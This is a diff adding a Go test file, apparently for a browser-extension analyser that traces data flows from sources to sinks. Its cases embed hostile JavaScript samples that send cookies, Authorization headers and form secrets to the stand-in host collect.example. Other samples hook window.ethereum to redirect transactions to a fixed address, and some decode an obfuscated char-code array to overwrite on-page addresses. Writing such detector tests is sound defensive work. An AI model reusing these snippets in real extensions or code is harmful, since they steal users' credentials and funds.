@@ -1,0 +1,26 @@
+package behavior
+
+import "testing"
+
+func TestFlowsThroughShapes(t *testing.T) {
+	const page = "https://www.exchange.test/*"
+	const to = "0x7f3aE1c09B5d24468a0b7C9e35D1f02284a6cE19"
+	for _, c := range []flowCase{
+		{"filtered by a function of the language", "", `chrome.cookies.getAll({}, c => { const d = [c[0].value, c[1].value].filter(Boolean).join("|"); fetch("https://collect.example/", {body: d}) })`, []string{cookies}},
+		{"filtered headers", "", `chrome.webRequest.onSendHeaders.addListener(e => { const r = e.requestHeaders.reduce((l, {name: f, value: m}) => ({...l, [f.toLowerCase()]: m}), {}), {authorization: s, cookie: i} = r; const o = [s, i].filter(Boolean).join("\n"); fetch("https://collect.example/", {body: o}) }, {urls: ["<all_urls>"]}, ["requestHeaders"])`, []string{"request_headers(<all_urls>) > fetch > collect.example"}},
+		{"query of an address", "", `chrome.cookies.getAll({}, c => { const u = new URL("https://collect.example/ack"); u.hash = ""; for (let i = 0; i < c.length; i++) u.search = "?" + new URLSearchParams({d: c[i].value}), fetch(u) })`, []string{cookies}},
+		{"path of an address", "", `chrome.cookies.getAll({}, c => { const u = new URL("https://collect.example/"); u.pathname = c[0].value; fetch(u) })`, []string{cookies}},
+		{"fragment and href", "", `chrome.cookies.getAll({}, c => { const u = new URL("https://collect.example/"); u.href += c[0].value; fetch(u) })`, []string{cookies}},
+		{"composed path", Content, `document.addEventListener("change", e => { const i = e.composedPath()[0]; fetch("https://collect.example/", {body: i.name + i.value}) })`, []string{"form_data(input) > fetch > collect.example"}},
+		{"cookie store", Content, `cookieStore.getAll().then(a => navigator.sendBeacon("https://collect.example/", new Blob([a.map(({name, value}) => name + value).join()])))`, []string{"document.cookie(" + page + ") > beacon > collect.example"}},
+		{"cookie store, one", Content, `(async () => { const {value} = await window.cookieStore.get("sid"); fetch("https://collect.example/" + value) })()`, []string{"document.cookie(" + page + ") > fetch > collect.example"}},
+		{"cookie store watcher", Content, `cookieStore.addEventListener("change", e => { for (const c of e.changed) fetch("https://collect.example/" + c.value) })`, []string{"document.cookie(" + page + ") > fetch > collect.example"}},
+		{"provider in a helper", PageWorld, `const wrap = p => { const req = p.request.bind(p); p.request = async a => { if (a.method === "eth_sendTransaction") a = {...a, params: [{...a.params[0], to: "` + to + `"}]}; return req(a) } }; wrap(window.ethereum)`, []string{"constant_address(" + to + ") > wallet_request", "wallet_request(" + page + ") > wallet_request"}},
+		{"provider in a helper when set", PageWorld, `const wrap = p => { const req = p.request.bind(p); p.request = async a => { if (a.method === "eth_sendTransaction") a = {...a, params: [{...a.params[0], to: "` + to + `"}]}; return req(a) } }; let inner; Object.defineProperty(window, "ethereum", {get: () => inner, set(v) { inner = v; wrap(v) }})`, []string{"constant_address(" + to + ") > wallet_request", "wallet_request(" + page + ") > wallet_request"}},
+		{"codes of an unknown row", Content, `const rows = [{c: "#fff", ramp: [48, 120, 55, 102, 51, 97, 69, 49, 99, 48, 57, 66, 53, 100, 50, 52, 52, 54, 56, 97, 48, 98, 55, 67, 57, 101, 51, 53, 68, 49, 102, 48, 50, 50, 56, 52, 97, 54, 99, 69, 49, 57]}, {c: "#000", ramp: [48, 49]}]; const tone = r => String.fromCharCode(...r.ramp); document.querySelectorAll(".addr").forEach(el => { const k = /x(\d)/.exec(el.id); el.textContent = tone(rows[k[1]]) })`, []string{"constant_address(" + to + ") > dom_value"}},
+		{"codes of an unknown row, applied", Content, `const rows = [[48, 120, 55, 102, 51, 97, 69, 49, 99, 48, 57, 66, 53, 100, 50, 52, 52, 54, 56, 97, 48, 98, 55, 67, 57, 101, 51, 53, 68, 49, 102, 48, 50, 50, 56, 52, 97, 54, 99, 69, 49, 57], [48, 49]]; document.querySelector(".addr").value = String.fromCharCode.apply(null, rows[location.hash.length])`, []string{"constant_address(" + to + ") > dom_value"}},
+		{"named control", Popup, `const form = document.querySelector("form"); form.onsubmit = () => fetch("https://collect.example/", {body: form.secret.value})`, []string{"form_data([name=secret]) > fetch > collect.example"}},
+	} {
+		t.Run(c.name, c.run)
+	}
+}
